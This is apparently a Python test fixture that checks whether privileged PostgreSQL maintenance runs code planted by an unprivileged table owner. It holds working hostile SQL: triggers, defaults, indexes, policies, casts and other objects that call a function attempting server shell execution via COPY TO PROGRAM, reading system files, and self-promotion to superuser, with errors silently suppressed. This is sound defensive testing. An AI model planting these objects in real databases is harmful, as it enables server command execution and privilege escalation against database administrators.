"""Objects of a table owner without further rights, which act as the role that makes them run."""

import shutil
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from sqlalchemy import Engine

from support.databases import execute

# Each attack leaves a file where it succeeds. An error is hidden, as an attacker would do. A
# function that claims to be immutable runs wherever an expression is only planned.
ATTACKS = """
    CREATE FUNCTION hostile.act(place text) RETURNS int LANGUAGE plpgsql
        SET search_path = pg_catalog AS $body$
    DECLARE number oid;
    BEGIN
        BEGIN
            EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch {folder}/program-' || place);
        EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN
            EXECUTE format('COPY (SELECT pg_read_file(%L)) TO %L',
                           '/etc/hostname', '{folder}/file-' || place);
        EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN
            number := lo_import('/etc/hostname');
            PERFORM lo_export(number, '{folder}/object-' || place);
        EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN
            EXECUTE 'ALTER ROLE CURRENT_USER SUPERUSER';
        EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN
            EXECUTE 'GRANT pg_execute_server_program TO CURRENT_USER';
            EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch {folder}/granted-' || place);
        EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN
            EXECUTE 'RESET SESSION AUTHORIZATION; RESET ROLE';
            EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch {folder}/reset-' || place);
        EXCEPTION WHEN OTHERS THEN NULL; END;
        RETURN 1;
    END $body$;
    CREATE FUNCTION hostile.attack(place text) RETURNS int LANGUAGE sql IMMUTABLE
        BEGIN ATOMIC SELECT hostile.act(place); END;
"""

OBJECTS = """
    CREATE FUNCTION fire() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN PERFORM hostile.attack(TG_WHEN || TG_LEVEL); RETURN new; END $$;
    CREATE DOMAIN checked AS int DEFAULT hostile.attack('domain')
        CHECK (hostile.attack('domain-check') > 0);
    CREATE TABLE victims (
        id int DEFAULT hostile.attack('default'),
        checked int DEFAULT 1 CHECK (hostile.attack('check') > 0),
        generated int GENERATED ALWAYS AS (hostile.attack('generated')) STORED,
        domain checked);
    CREATE INDEX ON victims ((hostile.attack('index')));
    CREATE INDEX ON victims (id) WHERE hostile.attack('condition') = id;
    CREATE STATISTICS facts ON (hostile.attack('statistics') + id) FROM victims;
    CREATE TRIGGER row BEFORE INSERT OR UPDATE ON victims
        FOR EACH ROW EXECUTE FUNCTION fire();
    CREATE TRIGGER statement AFTER INSERT OR UPDATE ON victims
        FOR EACH STATEMENT EXECUTE FUNCTION fire();
    CREATE VIEW seen AS SELECT hostile.attack('view') AS n;
    CREATE MATERIALIZED VIEW kept AS SELECT hostile.attack('materialized-view') AS n WITH NO DATA;
    CREATE TABLE ruled (id int);
    CREATE RULE instead AS ON INSERT TO ruled DO INSTEAD SELECT hostile.attack('rule');
    CREATE TABLE policed (id int);
    ALTER TABLE policed ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
    CREATE POLICY hidden ON policed USING (hostile.attack('policy') > 0);
    CREATE FUNCTION compare(int, victims) RETURNS boolean LANGUAGE sql AS
        'SELECT hostile.attack(''operator'') > 0';
    CREATE OPERATOR === (LEFTARG = int, RIGHTARG = victims, FUNCTION = compare);
    CREATE FUNCTION as_victim(int) RETURNS victims LANGUAGE sql AS
        'SELECT NULL::victims FROM hostile.attack(''cast'')';
    CREATE CAST (int AS victims) WITH FUNCTION as_victim;
    CREATE FUNCTION gather_step(int, text) RETURNS int LANGUAGE sql AS
        'SELECT hostile.attack(''aggregate'')';
    CREATE AGGREGATE gather(text) (SFUNC = gather_step, STYPE = int, INITCOND = '0');
"""


@contextmanager
def open_folder() -> Iterator[Path]:
    """Yield a folder that every account, also the server's, can write into."""
    folder = Path(tempfile.mkdtemp(prefix="hostile-", dir="/tmp"))
    folder.chmod(0o777)
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


@contextmanager
def hostile(engine: Engine, objects: str = OBJECTS) -> Iterator[Path]:
    """Let a table owner create hostile objects; yield the folder that the attacks write into."""
    owner = f"mallory_of_{engine.url.database}"
    with open_folder() as folder:
        statements = f"""
            CREATE ROLE {owner};
            CREATE SCHEMA hostile AUTHORIZATION {owner};
            GRANT USAGE, CREATE ON SCHEMA public TO {owner};
            SET LOCAL SESSION AUTHORIZATION {owner};
        """
        execute(engine, statements + ATTACKS.format(folder=folder) + objects)
        for file in folder.iterdir():  # this session can become a superuser again
            file.unlink()
        yield folder
        execute(engine, f"DROP OWNED BY {owner} CASCADE; DROP ROLE {owner}")
